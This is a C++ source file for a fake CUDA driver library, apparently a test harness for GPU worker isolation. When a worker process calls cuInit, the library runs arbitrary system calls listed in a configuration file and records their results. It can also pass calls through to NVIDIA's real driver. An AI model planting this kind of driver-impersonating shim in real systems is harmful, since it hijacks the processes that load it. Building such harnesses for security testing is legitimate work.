// A libcuda.so.1 that attacks the worker that loads it: what a client could do that has broken out of a
// driver. It has one device and computes nothing; or it is NVIDIA's driver, and attacks once that is
// initialised. What it does is in files of its own folder:
//   real       a path: NVIDIA's driver
//   pageable   if it exists, kernels of the device can access all memory
//              (CU_DEVICE_ATTRIBUTE_PAGEABLE_MEMORY_ACCESS)
//   attempts   lines "NAME NUMBER ARGUMENT...": cuInit of a worker makes each system call NUMBER. An argument
//              is a number, "TEXT" (its address), :HEX (the address of these bytes), & (200 bytes of memory)
//              or = (the previous result)
// The results, lines "NAME RESULT", are put into $TMPDIR/results. cuInit then waits for $TMPDIR/done and,
// without NVIDIA's driver, fails.
#include <dlfcn.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iterator>
#include <list>
#include <sstream>
#include <string>
#include <vector>

namespace {

constexpr int success = 0, not_found = 500, unknown = 999;

std::string folder() {
  Dl_info about{};
  dladdr(reinterpret_cast<void*>(&folder), &about);
  const std::string path = about.dli_fname;
  return path.substr(0, path.rfind('/'));
}

/// NVIDIA's driver, or null.
void* real() {
  static void* const opened = [] {
    std::string path;
    std::ifstream(folder() + "/real") >> path;
    return path.empty() ? nullptr : dlopen(path.c_str(), RTLD_NOW | RTLD_LOCAL);
  }();
  return opened;
}

template <class Function>
Function* in_real(const char* name) {
  return reinterpret_cast<Function*>(real() ? dlsym(real(), name) : nullptr);
}

bool exists(const std::string& path) { return access(path.c_str(), F_OK) == 0; }

bool is_probe() {
  std::ifstream in("/proc/self/cmdline");
  const std::string words((std::istreambuf_iterator<char>(in)), {});
  return words.find("--probe") != words.npos;
}

class caller {
 public:
  long make(std::istringstream& words) {
    std::vector<long> values;
    for (std::string word; words >> word;) values.push_back(value_of(word));
    values.resize(7);
    errno = 0;
    const long result = syscall(values[0], values[1], values[2], values[3], values[4], values[5], values[6]);
    return last_ = result == -1 ? -errno : result;
  }

 private:
  long value_of(const std::string& word) {
    if (word == "&") return reinterpret_cast<long>(scratch_);
    if (word == "=") return last_;
    if (word[0] == '"') return keep(word.substr(1, word.size() - 2));
    if (word[0] != ':') return std::stol(word, nullptr, 0);
    std::string bytes;
    for (std::size_t i = 1; i + 1 < word.size(); i += 2)
      bytes.push_back(static_cast<char>(std::stoi(word.substr(i, 2), nullptr, 16)));
    return keep(bytes);
  }
  long keep(const std::string& bytes) { return reinterpret_cast<long>(kept_.emplace_back(bytes).c_str()); }

  std::list<std::string> kept_;
  long last_ = 0;
  char scratch_[200]{};
};

}  // namespace

extern "C" {

int cuInit(unsigned flags) {
  auto* const inner = in_real<int(unsigned)>("cuInit");
  const int code = inner ? inner(flags) : success;
  std::ifstream attempts(folder() + "/attempts");
  if (!attempts || is_probe()) return code;
  const std::string own = getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp";
  caller c;
  std::ostringstream results;
  for (std::string line; std::getline(attempts, line);) {
    std::istringstream words(line);
    std::string name;
    words >> name;
    results << name << " " << c.make(words) << "\n";
  }
  std::ofstream(own + "/unfinished") << results.str();
  std::rename((own + "/unfinished").c_str(), (own + "/results").c_str());
  for (int i = 0; i < 3000 && !exists(own + "/done"); ++i) usleep(10000);
  return inner ? code : unknown;
}

int cuGetProcAddress_v2(const char* name, void** entry, int version, unsigned long flags, int* found) {
  using ask = int(const char*, void**, int, unsigned long, int*);
  auto* const inner = in_real<ask>("cuGetProcAddress_v2");
  if (!inner) return *entry = nullptr, not_found;
  const int code = inner(name, entry, version, flags, found);
  if (std::strcmp(name, "cuInit") == 0) *entry = reinterpret_cast<void*>(&cuInit);
  return code;
}

int cuDriverGetVersion(int* version) { return *version = 12080, success; }
int cuDeviceGetCount(int* count) { return *count = 1, success; }
int cuDeviceGet(int* device, int) { return *device = 0, success; }
int cuDeviceGetName(char* name, int room, int) { return std::snprintf(name, room, "Attacker"), success; }
int cuDeviceGetUuid(void* uuid, int) { return std::memset(uuid, 7, 16), success; }
int cuDeviceGetPCIBusId(char* id, int room, int) { return std::snprintf(id, room, "0000:01:00.0"), success; }
int cuDeviceTotalMem_v2(std::size_t* bytes, int) { return *bytes = std::size_t{1} << 30, success; }
int cuDeviceGetAttribute(int* value, int id, int) {
  *value = id == 75 ? 9 : id == 88 ? exists(folder() + "/pageable") : 0;
  return success;
}

}  // extern "C"
